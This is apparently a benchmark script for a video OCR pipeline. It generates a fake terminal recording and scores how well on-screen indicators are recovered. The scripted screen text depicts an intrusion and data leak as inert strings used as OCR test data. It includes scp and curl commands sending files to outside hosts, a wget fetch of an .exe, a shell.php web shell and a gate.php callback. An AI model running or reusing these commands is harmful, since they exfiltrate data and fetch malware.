# SPDX-License-Identifier: GPL-3.0-or-later
"""Benchmark: smart-sampled video OCR against the naive 1 fps full-frame baseline.

Generates a 60 s, 1280x720, 10 fps terminal recording (commands typed key by key, output blocks,
scrolling once the screen is full, a blinking cursor), then in one process measures:

- model load time (reported separately);
- ``analyse_video`` wall time / video duration (target <= 0.5 on 2 cores, load included);
- the naive baseline (full-frame detection + recognition on one frame per second) and the ratio;
- recall of the on-screen indicators known from the generator, and first-seen time error.

Run: ``.venv/bin/python tests/bench/video_ocr_speed.py [--keep DIR] [--seconds 60]``
"""

from __future__ import annotations

import argparse
import os
import sys
import tempfile
import time
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
sys.path[:0] = [str(ROOT), str(ROOT / "tests" / "unit")]

import av  # noqa: E402
import numpy as np  # noqa: E402
from ingest.screencast import Shown, render_screencast  # noqa: E402


@dataclass(frozen=True)
class Step:
    """One thing that happens on screen: a command typed at ``cps`` chars/s, or output lines at once."""

    time_s: float
    lines: tuple[str, ...]
    typed: bool = False
    indicators: tuple[str, ...] = ()


SCRIPT: tuple[Step, ...] = (
    Step(1.0, ("$ whoami",), typed=True),
    Step(2.2, ("operator",)),
    Step(3.0, ("$ ping -c1 185.141.63.120",), typed=True, indicators=("185.141.63.120",)),
    Step(5.4, ("PING 185.141.63.120 (185.141.63.120) 56(84) bytes of data.",
               "64 bytes from 185.141.63.120: icmp_seq=1 ttl=52 time=41.2 ms")),
    Step(7.0, (r"PS> cd C:\Users\operator\Desktop\emails",), typed=True,
         indicators=(r"C:\Users\operator\Desktop\emails",)),
    Step(10.5, ("PS> dir",), typed=True),
    Step(11.2, ("Mode   LastWriteTime       Length Name", "-a---  2024-10-02 11:04  48213 voters_FL.xlsx",
                "-a---  2024-10-02 11:09  90112 voters_PA.xlsx", "-a---  2024-10-03 08:15  1802 list.txt",
                "-a---  2024-10-03 09:40  33200 data.zip"),
         indicators=("voters_FL.xlsx", "voters_PA.xlsx", "data.zip")),
    Step(14.0, ("$ scp data.zip root@45.142.212.61:/tmp/",), typed=True,
         indicators=("45.142.212.61", "/tmp/")),
    Step(17.5, ("data.zip                      100%   32KB 410.2KB/s   00:00",)),
    Step(19.0, ("$ curl -s http://proudboys-official.com/send.php -d @list.txt",),
         indicators=("http://proudboys-official.com/send.php",)),
    Step(20.5, ('{"status":"queued","relay":"mx2.mailpanel.ru"}',), indicators=("mx2.mailpanel.ru",)),
    Step(22.0, ("$ cat /etc/hosts",), typed=True, indicators=("/etc/hosts",)),
    Step(23.5, ("127.0.0.1 localhost", "91.219.236.18 panel.internal-mail.net"),
         indicators=("91.219.236.18", "panel.internal-mail.net")),
    Step(25.0, ("$ mail -s update fl.voter.info@protonmail.com < list.txt",),
         indicators=("fl.voter.info@protonmail.com",)),
    Step(27.0, ("$ ssh -i ~/.ssh/id_rsa admin@103.75.190.12",), typed=True,
         indicators=("103.75.190.12",)),
    Step(30.5, ("Welcome to Ubuntu 22.04.4 LTS", "Last login: Wed Oct  2 10:58:11 2024 from 45.142.212.61",
                "admin@vps:~$ ls /var/www/html/uploads"),
         indicators=("/var/www/html/uploads",)),
    Step(32.5, ("index.php  shell.php  dump_2024-10-02.sql",), indicators=("shell.php",)),
    Step(34.0, ("admin@vps:~$ wget https://files.catbox.moe/x7k2qp.exe -O /tmp/upd.exe",),
         indicators=("https://files.catbox.moe/x7k2qp.exe", "/tmp/upd.exe")),
    Step(36.0, ("Saving to: '/tmp/upd.exe'", "upd.exe    100%[=========>]  1.21M  --.-KB/s    in 0.4s")),
    Step(38.0, ("admin@vps:~$ history | tail -3",), typed=True),
    Step(40.0, ("  201  cd /opt/tools/scanner", "  202  ./scan.sh 198.51.100.77", "  203  exit"),
         indicators=("/opt/tools/scanner", "198.51.100.77")),
    Step(42.0, ("admin@vps:~$ exit",)),
    Step(43.0, ("logout", "Connection to 103.75.190.12 closed.")),
    Step(45.0, (r"PS> Compress-Archive C:\Users\operator\Documents\leak -Dest leak.zip",),
         indicators=(r"C:\Users\operator\Documents\leak",)),
    Step(48.0, ("PS> Send-MailMessage -To tips@example-news.org -Attach leak.zip",),
         indicators=("tips@example-news.org",)),
    Step(51.0, ("PS> Invoke-WebRequest http://193.42.33.8:8080/gate.php",), typed=True,
         indicators=("http://193.42.33.8:8080/gate.php",)),
    Step(56.0, ("StatusCode : 200", "Content    : OK")),
)

CPS = 12.0  # typing speed for typed commands


def screen_events(script: tuple[Step, ...]) -> tuple[list[Shown], list[tuple[str, float]]]:
    """Turns the script into per-frame line states and the expected (indicator, time fully shown)."""
    shown: list[Shown] = []
    expected: list[tuple[str, float]] = []
    for step in script:
        done = step.time_s
        for text in step.lines:
            if step.typed:
                prompt_end = text.index(" ") + 1
                for n in range(prompt_end, len(text) + 1):
                    shown.append(Shown(step.time_s + (n - prompt_end) / CPS, text[:n], grows=n > prompt_end))
                done = step.time_s + (len(text) - prompt_end) / CPS
            else:
                shown.append(Shown(step.time_s, text))
        expected += [(value, done) for value in step.indicators]
    return shown, expected


def fold(text: str) -> str:
    return "".join(text.split()).casefold()


def first_match(value: str, reads: list[tuple[float, str]]) -> float | None:
    needle = fold(value)
    times = [t for t, text in reads if needle in fold(text)]
    return min(times) if times else None


def baseline(path: Path, engine: object) -> tuple[float, list[tuple[float, str]]]:
    """Naive: decode everything, full-frame OCR one frame per second."""
    started = time.perf_counter()
    reads: list[tuple[float, str]] = []
    with av.open(str(path)) as container:
        stream = container.streams.video[0]
        stream.thread_type = "AUTO"
        next_t = 0.0
        for frame in container.decode(stream):
            t = float(frame.time or 0.0)
            if t + 1e-6 < next_t:
                continue
            next_t += 1.0
            rgb = np.asarray(frame.to_ndarray(format="rgb24"))
            reads += [(t, line.text) for line in engine.read(rgb)]  # type: ignore[attr-defined]
    return time.perf_counter() - started, reads


def score(expected: list[tuple[str, float]], reads: list[tuple[float, str]]) -> tuple[int, list[str], float]:
    found, missed, errors = 0, [], []
    for value, t_true in expected:
        t_seen = first_match(value, reads)
        if t_seen is None:
            missed.append(value)
            continue
        found += 1
        errors.append(t_seen - t_true)
    worst = max((abs(e) for e in errors), default=float("nan"))
    return found, missed, worst


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--keep", type=Path, help="write the video here instead of a temp dir")
    parser.add_argument("--no-baseline", action="store_true", help="skip the slow 1 fps baseline")
    args = parser.parse_args()

    shown, expected = screen_events(SCRIPT)
    duration = 60.0
    with tempfile.TemporaryDirectory() as tmp:
        folder = args.keep or Path(tmp)
        folder.mkdir(parents=True, exist_ok=True)
        video = render_screencast(folder / "bench.mp4", shown, duration_s=duration, fps=10, scroll=True,
                                  cursor=True)

        t0 = time.perf_counter()
        from desktop.ingest.ocr import OcrEngine
        from desktop.ingest.video import analyse_video

        engine = OcrEngine()
        load_s = time.perf_counter() - t0

        t1 = time.perf_counter()
        result = analyse_video(video, engine)
        smart_s = time.perf_counter() - t1
        smart_reads = [(s.time_s, s.text) for s in result.first_seen]
        smart_found, smart_missed, smart_err = score(expected, smart_reads)

        if args.no_baseline:
            base_missed: list[str] = []
            base_s, base_found, base_err = float("nan"), 0, float("nan")
        else:
            base_s, base_reads = baseline(video, engine)
            base_found, base_missed, base_err = score(expected, base_reads)

    n = len(expected)
    print(f"\nvideo: {duration:.0f} s, 1280x720, 10 fps, {len(SCRIPT)} steps, {n} indicators; "
          f"cpus={os.cpu_count()} load={os.getloadavg()[0]:.2f}")
    print(f"model load (import + warm-up): {load_s:.2f} s")
    print(f"smart: {result.frames_decoded} frames decoded, {len(result.frames)} frames read, "
          f"OCR calls {result.ocr_calls}, {result.ocr_s:.2f} s in OCR, "
          f"{sum(1 for _ in result.kept_frames())} frames kept as PNG")
    header = f"{'pipeline':<28}{'time s':>8}{'÷ video':>9}{'÷ baseline':>12}{'recall':>9}{'max |Δt| s':>12}"
    print(header)
    print("-" * len(header))
    rows = [
        ("smart (load included)", smart_s + load_s, smart_found, smart_err),
        ("smart (engine loaded)", smart_s, smart_found, smart_err),
        ("baseline 1 fps full frame", base_s, base_found, base_err),
    ]
    for name, secs, found, err in rows:
        print(f"{name:<28}{secs:>8.2f}{secs / duration:>9.3f}{secs / base_s:>12.3f}"
              f"{f'{found}/{n}':>9}{err:>12.2f}")
    if smart_missed:
        print("smart missed:", ", ".join(smart_missed))
    if base_missed:
        print("baseline missed:", ", ".join(base_missed))
    ok = (smart_s + load_s) / duration <= 0.5 and smart_found == n
    print("target (<= 0.5 x duration, all indicators):", "met" if ok else "NOT met")
    return 0 if ok else 1


if __name__ == "__main__":
    raise SystemExit(main())
